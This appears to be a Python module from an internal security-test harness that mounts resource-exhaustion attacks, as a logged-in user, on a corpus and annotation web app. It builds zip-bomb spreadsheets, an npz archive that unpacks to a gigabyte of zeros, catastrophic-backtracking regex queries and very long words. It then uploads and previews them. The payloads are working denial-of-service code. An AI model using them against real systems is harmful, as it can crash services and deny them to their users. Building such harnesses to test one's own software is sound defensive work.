"""Attacks by people who have an account: what is small to send and large to read."""

import base64
import io
import json
import zipfile
from collections.abc import Iterator
from urllib.parse import quote
from uuid import uuid4

import numpy as np

from lab.attack.sending import Attacker

PIECE = 2**20  # bytes that are packed at once
ENOUGH = 4  # times that something is asked for
ROWS = 30_000_000  # of "<row/>": 180 MB, which pack to 176 kB
STRINGS = 15_000_000  # empty ones, 15 bytes each: 225 MB, which pack to 220 kB
ZEROS = 2**30
WORD = 20_000  # letters
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
EXPRESSIONS = (
    "a{0,20}" * 25 + "!",
    "(a|a)" * 35 + "!",
    ".*.*.*.*!",
    "a?" * 60 + "a" * 60 + "!",
    "(a+)+!",
)
SHEET = "xl/worksheets/sheet1.xml"
TEXTS = "xl/sharedStrings.xml"
CELL = '<row r="{}"><c r="A1" t="inlineStr"><is><t>phrase</t></is></c></row>'


def workbook(rows: Iterator[bytes], strings: Iterator[bytes]) -> bytes:
    """Return a workbook of one sheet with these pieces of XML."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    kinds = {
        "xl/workbook.xml": "sheet.main",
        SHEET: "worksheet",
        TEXTS: "sharedStrings",
    }
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}.{what}+xml"/>'
        for name, what in kinds.items()
    )
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f"{overrides}</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
            f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="Items" sheetId="1" r:id="r1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
            f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship '
            f'Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>"
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, text in parts.items():
            book.writestr(name, text)
        with book.open(SHEET, "w", force_zip64=True) as part:
            part.write(f'<worksheet xmlns="{MAIN}"><sheetData>'.encode())
            part.writelines(rows)
            part.write(b"</sheetData></worksheet>")
        with book.open(TEXTS, "w", force_zip64=True) as part:
            part.write(f'<sst xmlns="{MAIN}">'.encode())
            part.writelines(strings)
            part.write(b"</sst>")
    return out.getvalue()


def _many(one: bytes, n: int) -> Iterator[bytes]:
    each = PIECE // len(one)
    for first in range(0, n, each):
        yield one * min(each, n - first)


def _is_read(attacker: Attacker, name: str, content: bytes) -> None:
    """Send a file as items of a campaign and preview it, as the page does."""
    target = attacker.target
    items = f"/p/{target.project}/campaign/{target.campaign}/items/"
    _, _, there = attacker.send(items, f"file/{name}", content, api=False)
    if there:
        attacker.page(there)


def far_row(attacker: Attacker) -> None:
    """Send a workbook of 1.6 kB with a row numbered 999,999,999,999."""
    rows = CELL.format(1) + CELL.format(999_999_999_999)
    _is_read(attacker, "items.xlsx", workbook(iter([rows.encode()]), iter([])))


def many_rows(attacker: Attacker) -> None:
    """Send a workbook of 176 kB that holds 30 million empty rows."""
    first = CELL.format(1).encode()
    book = workbook(iter([first, *_many(b"<row/>", ROWS)]), iter([]))
    _is_read(attacker, "items.xlsx", book)


def many_strings(attacker: Attacker) -> None:
    """Send a workbook of 220 kB whose string table has 15 million entries."""
    rows = iter([CELL.format(1).encode()])
    texts = _many(b"<si><t/></si>\r\n", STRINGS)
    _is_read(attacker, "items.xlsx", workbook(rows, texts))


def zeros() -> bytes:
    """Return an npz archive of a megabyte that unpacks to a gigabyte of zeros."""
    head = io.BytesIO()
    of = {"descr": "|u1", "fortran_order": False, "shape": (ZEROS,)}
    np.lib.format.write_array_header_1_0(head, of)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("names.npy", "w", force_zip64=True) as part,
    ):
        part.write(head.getvalue())
        part.writelines(_many(b"\0", ZEROS))
    return out.getvalue()


def npz(attacker: Attacker) -> None:
    """Import a bundle with a forest of zeros, then ask for the forests."""
    name = f"Zeros {uuid4().hex[:8]}"
    data = base64.b64encode(zeros()).decode()
    lines: list[dict[str, object]] = [
        {"type": "bundle", "gemel": 1},
        {"type": "corpus", "name": name},
        {"type": "sentence", "id": "s1", "tokens": ["Hens", "sleep", "."]},
        {
            "type": "forest",
            "sentence": "s1",
            "engine": "e",
            "version": "1",
            "data": data,
        },
    ]
    lines.append({"type": "end", "records": len(lines)})
    text = "".join(json.dumps(line) + "\n" for line in lines).encode()
    corpus = attacker.brought_in("zeros.gemel", text, "gemel", name)
    rows = attacker.api(f"/api/corpora/{corpus}/sentences/") if corpus else None
    for row in (rows or {}).get("results", []):
        for _ in range(ENOUGH):
            if not attacker.is_over():
                attacker.api(f"/api/sentences/{row['code']}/forests/")


def regex(attacker: Attacker) -> None:
    """Search trees by expressions that backtrack in a word of 240 a's."""
    name = f"Regex {uuid4().hex[:8]}"
    trees = f"(S (NN {'a' * 240}) (VB {'a' * 240}))\n".encode() * 20
    corpus = attacker.brought_in("regex.ptb", trees, "ptb", name)
    for expression in EXPRESSIONS:
        if corpus and not attacker.is_over():
            query = quote(f"/{expression}/", safe="")
            attacker.api(f"/api/corpora/{corpus}/query/?q={query}")


def long_word(attacker: Attacker) -> None:
    """Import a word of 20,000 letters as an item, and in a pair that is opened."""
    for word in ("a" * WORD, "a-" * (WORD // 2), "a." * (WORD // 2)):
        if attacker.is_over():
            return
        row = f"{word} put off rain .\tput off\tdelayed\n"
        items = f"sentence\tphrase\tparaphrase\n{row}".encode()
        _is_read(attacker, "items.tsv", items)
        text = f"source\ttarget\n{word} sleeps .\tHens sleep .\n".encode()
        name = f"Word {uuid4().hex[:8]}"
        corpus = attacker.brought_in("word.tsv", text, "pairs", name)
        rows = attacker.api(f"/api/corpora/{corpus}/pairs/") if corpus else None
        for pair in (rows or {}).get("results", []):
            attacker.page(f"/p/{attacker.target.project}/pair/{pair['code']}/")
